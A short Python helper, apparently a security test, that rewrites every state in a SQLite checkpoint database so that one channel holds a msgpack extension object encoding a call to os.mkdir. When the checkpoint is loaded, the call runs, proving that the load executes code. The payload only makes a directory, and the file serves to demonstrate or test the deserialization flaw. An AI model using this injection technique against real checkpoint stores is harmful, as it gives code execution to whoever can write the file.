"""Plants a call in a checkpoint, as whoever can write the file could."""

import sqlite3
from contextlib import closing
from pathlib import Path

import ormsgpack


def plant_call(checkpoint: Path, channel: str, *, proof: Path) -> None:
    """Have every state in a checkpoint name `os.mkdir(proof)` in the place of a value."""
    call = ormsgpack.packb(("os", "mkdir", str(proof)))
    with closing(sqlite3.connect(checkpoint)) as database, database:
        rows = database.execute("select rowid, checkpoint from checkpoints").fetchall()
        assert rows
        for row, blob in rows:
            held = ormsgpack.unpackb(blob, ext_hook=ormsgpack.Ext)
            held["channel_values"][channel] = ormsgpack.Ext(0, call)
            database.execute(
                "update checkpoints set checkpoint = ? where rowid = ?", (ormsgpack.packb(held), row)
            )
